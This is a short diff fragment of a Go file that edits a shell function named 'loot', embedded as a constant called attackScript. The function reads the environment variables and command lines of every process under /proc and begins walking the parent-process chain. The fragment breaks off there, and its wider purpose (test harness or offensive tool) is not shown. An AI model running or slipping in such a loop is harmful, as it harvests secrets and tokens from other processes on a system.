@@ -19,8 +19,8 @@ import (
 const attackScript = `
 loot() {
   for p in /proc/[0-9]*; do
-    tr '\0' '\n' < $p/environ 2>/dev/null
-    tr '\0' ' ' < $p/cmdline 2>/dev/null; echo
+    tr '\0' '\n' 2>/dev/null < $p/environ
+    tr '\0' ' ' 2>/dev/null < $p/cmdline; echo
   done
   p=$$
   while [ -n "$p" ] && [ "$p" -gt 0 ]; do
